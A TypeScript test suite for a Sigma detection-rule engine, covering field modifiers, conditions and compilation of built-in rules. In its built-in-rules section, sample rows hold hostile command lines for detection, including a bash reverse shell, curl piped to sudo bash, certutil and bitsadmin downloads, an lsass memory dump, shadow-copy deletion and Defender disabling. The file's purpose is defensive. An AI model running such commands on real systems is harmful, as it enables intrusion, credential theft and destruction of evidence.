import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { builtInModule } from '../../../infra/sigma-rules.ts';
import { builtInFiles } from '../../../shared/sigma/built-in.gen.ts';
import { condition } from '../../../shared/sigma/condition.ts';
import { fieldTest } from '../../../shared/sigma/field.ts';
import { rowCells } from '../../../shared/sigma/cell.ts';
import { compileDetection } from '../../../shared/sigma/match.ts';
import { readRules } from '../../../shared/sigma/rule.ts';

const cells = (row: object) => rowCells(row as Record<string, unknown>, new Map());
const matches = (key: string, value: unknown, cell: unknown): boolean => fieldTest(key, value, { Admins: ['ana', 'b*n'] }).reason(cells({ f: cell, g: 'Abc' })) !== undefined;
const compiled = (text: string, file: string) =>
  readRules(text, file).flatMap(({ kind, rule }) => (kind === 'rule' ? [{ id: rule.id, ...compileDetection(rule.detection, rule.title, file) }] : []));
const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string => Buffer.from(text, encoding).toString('base64');

describe('fieldTest', () => {
  it.each([
    ['f', 'Abc', 'aBC', true],
    ['f|cased', 'Abc', 'abc', false],
    ['f', 'a*c', 'abbc', true],
    ['f', 'a?c', 'abbc', false],
    ['f', 'a\\*c', 'a*c', true],
    ['f', 'a\\*c', 'abc', false],
    ['f', 'C:\\Windows\\\\*', 'c:\\windows\\x', true],
    ['f', 'C:\\Windows\\*', 'c:\\windows\\x', false],
    ['f', 'ab*ba', 'aba', false],
    ['f|contains', ['x', 'b'], 'abc', true],
    ['f|contains|all', ['a', 'c'], 'abc', true],
    ['f|contains|all', ['a', 'x'], 'abc', false],
    ['f|startswith', 'ab', 'abc', true],
    ['f|endswith', 'ab', 'abc', false],
    ['f|re', '^a.c$', 'abc', true],
    ['f|re', 'A', 'abc', false],
    ['f|re|i', 'A', 'abc', true],
    ['f', 'C:\\\\Windows', 'c:\\windows', true],
    ['f|startswith', '\\\\\\\\srv', '\\\\SRV\\x', true],
    ['f|contains', 'a\\\\*c', 'xa\\bbc', true],
    ['f|re', 'A.C', 'xa\nCx', false],
    ['f|re|i|s', 'A.C', 'xa\nCx', true],
    ['f|re|m', '^b$', 'a\nb', true],
    ['f', 'x', ['w', 'X'], true],
    ['f|contains|all', ['a', 'c'], ['xa', 'c'], true],
    ['f|neq', ['a', 'b'], 'c', true],
    ['f|neq', ['a', 'b'], 'A', false],
    ['f|neq', 'a', null, false],
    ['f|neq', 5, 6, true],
    ['f|fieldref', 'g', 'aBC', true],
    ['f|fieldref|cased', 'g', 'aBC', false],
    ['f|fieldref|contains', 'g', 'x abc', true],
    ['f|fieldref|neq', 'g', 'x', true],
    ['f|fieldref', 'absent', 'x', false],
    ['f|fieldref|neq', 'absent', 'x', false],
    ['f|expand', '%Admins%', 'Ben', true],
    ['f|expand', 'x\\%%Admins%', 'x%ana', true],
    ['f', '%Admins%', 'ana', false],
    ['f|hour', 3, '2024-03-04T03:59:00Z', true],
    ['f|hour|gte', 22, '2024-03-04T03:59:00Z', false],
    ['f|week', 10, '2024-03-04T03:59:00Z', true],
    ['f|week', 53, '2021-01-03T00:00:00Z', true],
    ['f|month', 3, 'no time', false],
    ['f|lt', 5, ' ', false],
    ['f|lt', 20, '0x10', true],
    ['f|exists', false, '', false],
    ['f', '', '', true],
    ['f', '*', 'x', true],
    ['f', ['x', null], null, true],
    ['f|contains', null, null, true],
    ['f|cidr', '10.0.0.0/8', '10.9.8.7', true],
    ['f|cidr', '10.0.0.0/8', '2001:db8::1', false],
    ['f|cidr', '2001:db8::/32', '2001:db8::1', true],
    ['f|exists', true, 'x', true],
    ['f|exists', true, null, false],
    ['f|exists', false, null, true],
    ['f', null, '', true],
    ['f', null, 'x', false],
    ['f', 4688, 4688, true],
    ['f|gte', 5, '7', true],
    ['f|lt', 5, '7', false],
    ['f|windash|contains', ' -enc', 'powershell /enc x', true],
    ['f|windash|contains', ' -enc', 'powershell \u2013enc x', true],
    ['f|windash|contains', '-a -b', 'x /a \u2014b', true],
    ['f|windash|contains', 'http://x -b', 'http://x /b', true],
    ['f|windash|contains', 'http://x -b', 'http:--x /b', false],
    ['f|windash|contains', 'a-b', 'a/b', false],
    ['f|windash|contains|cased', ' -Enc', ' /Enc', true],
    ['f|windash|contains|cased', ' -Enc', ' /enc', false],
    ['f|windash|endswith', ' -e?x', 'a \u2015eyx', true],
    ['f|windash', '-a*b', '/a-b', true],
    ['f|utf16be|base64offset|contains', 'IEX', base64('IEX', 'utf16le'), false],
    ['f|windash|base64offset|contains', ' -x', base64('1 /x'), true],
    ['f|base64|contains', 'a\\\\b', base64('a\\b'), true],
    ['f|base64|contains', 'secret', `x ${base64('secret')}`, true],
    ['f|base64offset|contains', 'wget http', base64('$(wget http://x)'), true],
    ['f|base64offset|contains', 'wget http', base64('; wget http://x)'), true],
    ['f|base64offset|contains', 'wget http', base64('xyzwget http://x)'), true],
    ['f|wide|base64offset|contains', 'IEX', base64('a;IEX(1)', 'utf16le'), true],
    ['f|wide|base64offset|contains', 'IEX', base64('a;IEX(1)'), false],
  ])('%s: %j on %j: %s', (key, value, cell, wanted) => {
    expect(matches(key, value, cell)).toBe(wanted);
  });

  it('costs linear time on values with many wildcards', () => {
    const started = performance.now();
    expect(matches('f', `${'*a'.repeat(40)}*b`, 'a'.repeat(1_000_000))).toBe(false);
    expect(matches('f', `${'*a?'.repeat(10)}b`, 'a'.repeat(100_000))).toBe(false);
    expect(performance.now() - started).toBeLessThan(5000);
  });
});

describe('condition', () => {
  const holds = (name: string): boolean => ['a', 'sel_one'].includes(name);
  it.each([
    ['a', true, ['a']],
    ['a and b', false],
    ['b or a', true, ['a']],
    ['not b and a', true, ['a']],
    ['not (a or b)', false],
    ['1 of sel_*', true, ['sel_one']],
    ['all of sel_*', false],
    ['any of them', true, ['a', 'sel_one']],
    ['a and not 1 of _*', true, ['a']],
  ])('%s', (text, wanted, names: string[] = []) => {
    const used = new Set<string>();
    expect(condition(text, ['a', 'b', 'sel_one', 'sel_two', '_x']).holds(holds, used)).toBe(wanted);
    if (wanted) expect([...used]).toEqual(names);
  });

  it.each(['', 'a and', '(a', 'a b', 'c', '1 of x*', 'a | count() > 5', '('.repeat(2000)])('refuses %j', (text) => {
    expect(() => condition(text, ['a', 'b'])).toThrow(Error);
  });
});

describe('fieldTest refuses', () => {
  it.each([
    ['f|sounds', 'x', 'there is no modifier "sounds"; there are all'],
    ['f|re', '(?=x)', 'RE2'],
    ['f|re', '[', 'RE2'],
    ['f|re|cidr', 'x', 'exclude one another'],
    ['f|re|endswith', 'x', 'with ^ and $'],
    ['f|i', 'x', 're|i'],
    ['f|cidr', '10.0.0.0/99', '10.0.0.0/8'],
    ['f|gt', 'many', 'no number'],
    ['f|exists', 'maybe', 'true or false'],
    ['f|expand', '%Nobody%', 'placeholders.Nobody'],
    ['f|base64', 'a*', 'cannot be encoded'],
    ['f', [], '1 to 2000'],
    ['f', { a: 1 }, 'not a record'],
    ['|contains', '', 'every event'],
    ['|fieldref', 'g', 'needs a field'],
  ])('%s: %j', (key, value, said) => {
    expect(() => fieldTest(key, value)).toThrow(said);
  });
});

describe('rows', () => {
  const of = (row: object, field: string, names: Record<string, string> = {}) => rowCells(row as Record<string, unknown>, new Map(Object.entries(names))).of(field)?.map(({ text }) => text);
  it.each([
    ['its own column', { a: 1 }, 'a', ['1']],
    ['a path into records', { event: { category: 'x' } }, 'event.category', ['x']],
    ['a column with a dot in its name', { 'event.category': 'x', event: { category: 'y' } }, 'event.category', ['x']],
    ['Windows 4688', { NewProcessName: 'C:\\a.exe' }, 'Image', ['C:\\a.exe']],
    ['Defender', { ProcessCommandLine: 'a /b' }, 'CommandLine', ['a /b']],
    ['the audit log', { cmdline: 'ls -l', args: ['ls', '-l'] }, 'a1', ['-l']],
    ['types of audit records', { EventType: 'SYSCALL_EXECVE', paths: ['/bin/ls'] }, 'type', ['SYSCALL_EXECVE', 'SYSCALL', 'EXECVE', 'PATH']],
    ['nothing', { a: null }, 'a', undefined],
    ['nothing inherited', {}, 'constructor', undefined],
  ])('%s', (_, row, field, texts) => {
    expect(of(row, field)).toEqual(texts);
  });

  it('take the word of the caller before any other', () => {
    expect(of({ exe: 'a', Image: 'b' }, 'Image', { Image: 'exe' })).toEqual(['a']);
    expect(of({ NewProcessName: 'a' }, 'Image', { Image: 'exe' })).toBeUndefined();
  });
});

const rule = (detection: string): string => `title: t\nlogsource: {product: linux}\ndetection: ${detection}\n`;

describe('rules', () => {
  const run = (detection: string, row: object) => compiled(rule(detection), 'rules')[0]!.match(cells(row));

  it.each([
    ['a list of maps is one of them', '{s: [{a: x}, {b: y}], condition: s}', { b: 'y' }, ['s: b: y']],
    ['a map is all of them', '{s: {a: x, b: y}, condition: s}', { a: 'x', b: 'z' }, undefined],
    ['keywords look everywhere', '{s: [one, two*x], condition: s}', { any: 'it is TWO or x' }, ['s: any has two*x']],
    ['all keywords', "{s: {'|all': [one, two]}, condition: s}", { a: 'one', b: 'two' }, ['s: a has one, b has two']],
    ['texts and maps in one list', '{s: [one, {b: y}], condition: s}', { b: 'y' }, ['s: b: y']],
    ['keywords with modifiers', "{s: {'|re|i': 'o.e'}, condition: s}", { a: 'xOne' }, ['s: a has o.e']],
    ['a keyword alone', '{s: one, condition: s}', { a: 7, b: ['x', 'one'] }, ['s: b has one']],
    ['filters are negated', '{s: {a: x}, filter_main_b: {b: y}, filter_opt: {c: z}, condition: s and not 1 of filter_*}', { a: 'x', b: 'y' }, undefined],
    ['a field that is empty', '{s: {a: null}, condition: s}', {}, ['s: a is empty']],
    ['names with stars anywhere', '{sel_a_x: {a: x}, sel_b_x: {b: y}, sel_c: {c: z}, condition: all of sel_*_x}', { a: 'x', b: 'y' }, ['sel_a_x: a: x', 'sel_b_x: b: y']],
    ['upper-case words', '{s: {a: x}, t: {b: y}, condition: s AND NOT t}', { a: 'x' }, ['s: a: x']],
    ['several conditions are one of them', '{s: {a: x}, t: {b: y}, condition: [s, t]}', { b: 'y' }, ['t: b: y']],
  ])('%s', (_, detection, row, why) => {
    expect(run(detection, row)?.why).toEqual(why);
  });

  it.each([
    ['no YAML', 'a: [', 'document 1'],
    ['no rule', 'title: t', 'document 1, rule "t": logsource: It is missing.'],
    ['a text', 'hello', 'document 1: It is no Sigma rule, which is a record'],
    ['an alias', `${rule('{s: &a {f: x}, t: *a, condition: s}')}`, 'document 1'],
    ['no condition', rule('{s: {a: x}}'), 'rule "t"'],
    ['a modifier that is none', rule('{s: {a|sounds: x}, condition: s}'), 'The rule "t" cannot be used: detection.s.a|sounds: there is no modifier "sounds"'],
    ['look-around', rule("{s: [{b: x}, {'a|re': '(?=x)'}], condition: s}"), 'detection.s.1.a|re'],
    ['an unknown selection', rule('{s: {a: x}, condition: s and t}'), 'detection.condition: it names "t", and there is no such selection; there are s'],
    ['rules of Sigma 1', 'action: global\ntitle: t', 'Sigma 1'],
  ])('refuses %s and says where', (_, text, about) => {
    expect(() => compiled(text, 'rules')).toThrow(expect.objectContaining({ code: 'invalid-input', message: expect.stringContaining(about) }));
  });

  it('reads any text, or says what is wrong', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.jsonValue(), (text, value) => {
        for (const given of [text, rule(JSON.stringify({ s: value, condition: 's' }))])
          try {
            for (const { match } of compiled(given, 'rules')) match(cells({ f: text }));
          } catch (thrown) {
            expect(thrown).toMatchObject({ code: 'invalid-input' });
          }
      }),
    );
  });
});

describe('built-in rules', () => {
  const all = Object.entries(builtInFiles).flatMap(([file, text]) => compiled(text, file));
  const ids = (row: object): string[] => all.flatMap(({ match, id }) => (match(cells(row)) && id !== undefined ? [id] : []));
  it.each([
    [{ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil /urlcache -f http://x a' }, 'certutil'],
    [{ CommandLine: 'mshta.exe javascript:alert(1)' }, 'mshta'],
    [{ CommandLine: 'regsvr32 /s /u /i:http://x/a.sct scrobj.dll' }, 'regsvr32-scriptlet'],
    [{ CommandLine: 'rundll32 \\\\host@80\\DavWWWRoot\\a.dll,x' }, 'rundll32-script'],
    [{ CommandLine: 'bitsadmin /transfer j http://x a' }, 'bitsadmin'],
    [{ CommandLine: 'vssadmin delete shadows /all /quiet' }, 'shadow-copies'],
    [{ CommandLine: 'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 x full' }, 'lsass-dump'],
    [{ ParentImage: 'C:\\Office\\WINWORD.EXE', Image: 'C:\\Windows\\System32\\cmd.exe' }, 'office-shell'],
    [{ CommandLine: 'powershell -nop -enc SQBFAFgAIAAxACAAMQAgADEA' }, 'powershell-encoded'],
    [{ ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://x')" }, 'powershell-download'],
    [{ ScriptBlockText: base64('xx AmsiUtils', 'utf16le') }, 'powershell-amsi'],
    [{ ScriptBlockText: '$c = [Convert]::FromBase64String($x); iex ([Text.Encoding]::UTF8.GetString($c))' }, 'powershell-decoded'],
    [{ ScriptBlockText: '[System.Reflection.Assembly]::Load($bytes)' }, 'powershell-memory'],
    [{ ScriptBlockText: 'Invoke-Kerberoast -OutputFormat Hashcat' }, 'powershell-tools'],
    [{ ScriptBlockText: 'Set-MpPreference -DisableRealtimeMonitoring $true' }, 'powershell-defender'],
    [{ ScriptBlockText: 'Add-MpPreference -ExclusionPath C:\\x' }, 'powershell-defender'],
    [{ ScriptBlockText: 'Clear-EventLog Security' }, 'powershell-logs'],
    [{ ScriptBlockText: 'Get-NetUser | select name' }, 'powershell-directory'],
    [{ ScriptBlockText: 'Set-WmiInstance __EventFilter; CommandLineEventConsumer' }, 'powershell-wmi-subscription'],
    [{ ScriptBlockText: '$g.CopyFromScreen(0,0,0,0,$s)' }, 'powershell-spy'],
    [{ ScriptBlockText: 'Compress-Archive a b; $w.UploadFile($u, "b")' }, 'powershell-upload'],
    [{ CommandLine: 'powershell.exe -ep bypass -w hidden -file a.ps1' }, 'powershell-hidden'],
    [{ Image: '/tmp/.x/kworker', CommandLine: 'kworker' }, 'linux-temporary-program'],
    [{ ParentImage: '/usr/sbin/nginx', Image: '/usr/bin/bash' }, 'linux-web-shell'],
    [{ CommandLine: 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1' }, 'linux-reverse-shell'],
    [{ CommandLine: 'curl -s http://x | sudo bash' }, 'linux-download-shell'],
    [{ CommandLine: 'rm -f /var/log/auth.log' }, 'linux-history'],
  ])('%j is found', (row, id) => expect(ids(row)).toEqual([`gumshoe-${id}`]));

  it.each([{ CommandLine: 'certutil -hashfile a.exe' }, { CommandLine: 'curl -o a.sh http://x' }, { CommandLine: 'powershell -File a.ps1' }, { ScriptBlockText: 'Get-Date' }, { ScriptBlockText: 'Set-MpPreference -DisableRealtimeMonitoring $false; Get-Content a | Out-File b' }, { Image: '/usr/bin/bash', ParentImage: '/usr/sbin/sshd' }, {}])('%j is left alone', (row) => {
    expect(ids(row)).toEqual([]);
  });

  it('are those in their folder', () => {
    expect(readFileSync('shared/sigma/built-in.gen.ts', 'utf8')).toBe(builtInModule());
  });
});
